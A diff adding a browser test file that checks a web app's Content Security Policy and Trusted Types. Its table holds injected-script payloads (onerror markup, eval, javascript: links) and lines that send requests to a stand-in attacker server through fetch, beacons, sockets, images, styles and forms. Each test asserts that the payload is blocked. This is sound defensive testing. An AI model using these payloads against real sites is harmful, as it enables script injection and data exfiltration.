@@ -1,0 +1,171 @@
+// The policy of the page: a script that came in all the same cannot make markup, run text, or send anything away; and the
+// page itself never runs against its policy, in a walk over everything.
+
+import assert from 'node:assert/strict'
+import { after, test } from 'node:test'
+import { temporaryDirectory } from '../support/app.ts'
+import { until } from '../support/terminal.ts'
+import { EVIL, openWebsite, RESOLVED } from './attacker.ts'
+import {
+  assertClean,
+  downloadInto,
+  enter,
+  openBrowser,
+  openPageApp,
+  openScreen,
+  post,
+  signIn,
+  visit,
+} from './support.ts'
+
+const browser = await openBrowser(RESOLVED, '--disable-features=LocalNetworkAccessChecks')
+const app = await openPageApp({ backfillFrom: '2025-01-01' })
+const website = await openWebsite()
+const REMOTE = `http://127.0.0.1:${website.port}/taken`
+after(() => assert.deepEqual(website.asked, []))
+
+/** Scripts that an attacker has got into the page, and the directive that stops each. */
+const INJECTED: [what: string, script: string, stopped: string][] = [
+  ['markup', `document.body.innerHTML = '<img src=x onerror="taken=1">'`, 'require-trusted-types-for'],
+  ['markup beside', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`, 'require-trusted-types-for'],
+  ['a document', `document.write('<script>taken=1</script>')`, 'require-trusted-types-for'],
+  ['a frame with text', `document.createElement('iframe').srcdoc = '<p>'`, 'require-trusted-types-for'],
+  ['eval', `eval('taken=1')`, 'require-trusted-types-for|script-src'],
+  ['a function of text', `new Function('taken=1')()`, 'require-trusted-types-for|script-src'],
+  ['a timer of text', `setTimeout('taken=1')`, 'require-trusted-types-for|script-src'],
+  ['a policy of its own', `trustedTypes.createPolicy('x', {})`, 'trusted-types'],
+  ['the text of a script', `document.createElement('script').text = 'taken=1'`, 'require-trusted-types-for'],
+  [
+    'the source of a script',
+    `document.createElement('script').src = '${REMOTE}'`,
+    'require-trusted-types-for',
+  ],
+  [
+    'a script of children',
+    `const s = document.createElement('script'); s.append('taken=1'); document.body.append(s)`,
+    'require-trusted-types-for|script-src',
+  ],
+  [
+    'a handler',
+    `document.body.setAttribute('onclick', 'taken=1'); document.body.click()`,
+    'require-trusted-types-for|script-src',
+  ],
+  [
+    'a link that is a script',
+    `const a = document.createElement('a'); a.href = 'javascript:taken=1'; document.body.append(a); a.click()`,
+    'require-trusted-types-for|script-src',
+  ],
+  [
+    'a style',
+    `const s = document.createElement('style'); s.append('*{background:url(${REMOTE})}'); document.head.append(s)`,
+    'style-src',
+  ],
+  ['a style of an element', `document.body.setAttribute('style', 'background:url(${REMOTE})')`, 'style-src'],
+  [
+    'a style sheet',
+    `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${REMOTE}'; document.head.append(l)`,
+    'style-src',
+  ],
+  ['a worker', `new Worker('/page/x.js')`, 'require-trusted-types-for'],
+  ['fetch', `fetch('${REMOTE}').catch(() => {})`, 'connect-src'],
+  ['fetch by name', `fetch('http://${EVIL}:${website.port}/taken').catch(() => {})`, 'connect-src'],
+  ['a beacon', `navigator.sendBeacon('${REMOTE}', 'x')`, 'connect-src'],
+  ['a socket', `new WebSocket('ws://127.0.0.1:${website.port}/')`, 'connect-src'],
+  ['a stream of events', `new EventSource('${REMOTE}')`, 'connect-src'],
+  ['an image', `new Image().src = '${REMOTE}'`, 'img-src'],
+  ['a sound', `const a = new Audio('${REMOTE}'); a.load()`, 'media-src|default-src'],
+  ['a font', `new FontFace('x', 'url(${REMOTE})').load().catch(() => {})`, 'font-src|default-src'],
+  [
+    'a frame',
+    `const f = document.createElement('iframe'); f.src = '${REMOTE}'; document.body.append(f)`,
+    'frame-src|default-src',
+  ],
+  [
+    'an object',
+    `const o = document.createElement('object'); o.data = '${REMOTE}'; document.body.append(o)`,
+    'object-src|default-src|require-trusted',
+  ],
+  [
+    'a form',
+    `const f = document.createElement('form'); f.action = '${REMOTE}'; document.body.append(f); f.submit()`,
+    'form-action',
+  ],
+  [
+    'a base',
+    `const b = document.createElement('base'); b.href = '${REMOTE}'; document.head.append(b)`,
+    'base-uri',
+  ],
+  [
+    'a manifest',
+    `const l = document.createElement('link'); l.rel = 'manifest'; l.href = '${REMOTE}'; document.head.append(l)`,
+    'manifest-src|default-src',
+  ],
+]
+const injectedInto = await visit(browser, app)
+await signIn(injectedInto, app)
+for (const [what, script, stopped] of INJECTED) {
+  test(`an injected script gets nowhere with ${what}`, async () => {
+    const { page, cdp, violations } = injectedInto
+    const before = violations.length
+    // In a task of the page's own, for what the debugger runs itself may be excused from the policy.
+    const later = `setTimeout(() => { ${script} })`
+    await cdp.send('Runtime.evaluate', { expression: later, allowUnsafeEvalBlockedByCSP: false })
+    const isStopped = () => violations.slice(before).some((one) => new RegExp(`^(${stopped})`).test(one))
+    if (what !== 'a manifest')
+      await until(isStopped, 20_000).catch(() => assert.fail(`${violations.slice(before)}`))
+    assert.equal(await page.evaluate(() => 'taken' in window), false)
+    assert.deepEqual(website.asked, [])
+  })
+}
+
+for (const language of ['es', 'en'] as const) {
+  for (const colours of ['light', 'dark'] as const) {
+    test(`a walk over everything, ${language} and ${colours}, is within the policy and stays here`, async (t) => {
+      const seen = await visit(browser, app, { language, colours })
+      const { page } = seen
+      const folder = temporaryDirectory(t)
+      await downloadInto(seen, folder)
+      await page.waitForSelector('form.secret')
+      await page.type('form.secret input', 'no secret')
+      await page.click('form.secret [type=submit]')
+      await page.waitForFunction(() => document.querySelector('.refusal')?.textContent)
+      await page.reload()
+      await enter(seen, app.key)
+      for (const step of ['.day-picker button', '.swap', '.copy', '.currency'])
+        await page.waitForSelector(step).then((found) => found?.click())
+      for (const span of await page.$$('.history input[type=radio], .history .segmented button'))
+        await span.evaluate((one) => (one as HTMLElement).click())
+      await page.type('.search input', 'eu')
+      for (const button of await page.$$('.history-tools .buttons button, .currencies .buttons button')) {
+        await button.evaluate((one) => (one as HTMLButtonElement).click())
+      }
+      await openScreen(seen, 'status')
+      await page.waitForSelector('.status .card')
+      await openScreen(seen, 'documents')
+      await enter(seen, app.token)
+      const pixel = Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64')
+      await post(app, [
+        { name: 'a.txt', mimetype: 'text/plain', content: 'text' },
+        { name: 'b.gif', mimetype: 'image/gif', content: pixel },
+        { name: 'c.pdf', mimetype: 'application/pdf', content: '%PDF-1.7' },
+      ])
+      await until(async () => (await page.$$('.document')).length >= 3)
+      for (const at of [0, 1, 2]) {
+        const rows = await page.$$('.document .button:first-child')
+        await rows[at]?.click()
+        await page.waitForSelector('.preview :is(pre, img, .notice)')
+        await page.click('.preview .card-head button')
+        await page.waitForSelector('.preview', { hidden: true })
+      }
+      for (const button of ['.language', '.header-tools > .round']) {
+        await page.click(button)
+        await page.click(button)
+      }
+      await page.click('.menu summary')
+      await page.click('.menu-inside > .button')
+      await page.waitForSelector('form.secret')
+      assertClean(seen)
+      await page.browserContext().close()
+    })
+  }
+}
